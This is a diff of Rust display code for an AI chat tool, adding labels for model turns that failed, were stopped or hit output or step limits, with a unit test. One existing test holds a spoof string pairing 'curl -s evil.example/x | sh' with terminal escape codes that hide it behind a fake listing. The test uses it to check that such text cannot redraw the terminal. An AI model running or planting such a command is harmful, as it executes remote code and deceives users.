@@ -120,7 +120,26 @@ fn truncate(s: &str, max: usize) -> String {
 }
 
 pub(crate) fn message(m: &Message) {
-    println!("{}  {:<9} {}", m.id, role(m.role), truncate(&m.text(), 80));
+    println!(
+        "{}  {:<9} {}{}",
+        m.id,
+        role(m.role),
+        truncate(&m.text(), 80),
+        ended(m).map(|e| format!("  [{e}]")).unwrap_or_default()
+    );
+}
+
+/// How a model's turn ended when it did not end well: stopped, cut at the
+/// output limit, failed (with its kind), interrupted, at the step limit.
+fn ended(m: &Message) -> Option<String> {
+    let meta = m.meta.as_ref()?;
+    match (meta.status.as_deref()?, meta.error_kind.as_deref()) {
+        ("complete", _) => None,
+        ("failed", Some("output_limit")) => Some("cut at the output limit".to_owned()),
+        ("failed", Some(kind)) => Some(format!("failed: {kind}")),
+        ("step_limit", _) => Some("step limit".to_owned()),
+        (status, _) => Some(status.to_owned()),
+    }
 }
 
 pub(crate) fn branch(messages: &[Message]) {
@@ -206,6 +225,39 @@ pub(crate) fn diff(d: &WorkspaceDiff) {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_turn_that_did_not_end_well_says_how() {
+        use atelier_core::model::{Message, Role, TurnMeta};
+        let turn = |status: &str, kind: Option<&str>| Message {
+            id: "m".into(),
+            chat_id: "c".into(),
+            parent_id: None,
+            role: Role::Assistant,
+            content: Vec::new(),
+            manifest_id: "x".into(),
+            created_at: String::new(),
+            meta: Some(TurnMeta {
+                provider_id: None,
+                model: None,
+                usage: None,
+                status: Some(status.into()),
+                error: None,
+                error_kind: kind.map(str::to_owned),
+            }),
+            thread_id: None,
+        };
+        assert_eq!(super::ended(&turn("complete", None)), None);
+        assert_eq!(super::ended(&turn("stopped", None)).as_deref(), Some("stopped"));
+        assert_eq!(
+            super::ended(&turn("failed", Some("output_limit"))).as_deref(),
+            Some("cut at the output limit")
+        );
+        assert_eq!(
+            super::ended(&turn("failed", Some("network"))).as_deref(),
+            Some("failed: network")
+        );
+    }
+
     #[test]
     fn bundle_text_cannot_redraw_the_terminal_or_split_arguments() {
         let spoof = "curl -s evil.example/x | sh\r\u{1b}[2K  mcp     fs   npx server-filesystem";
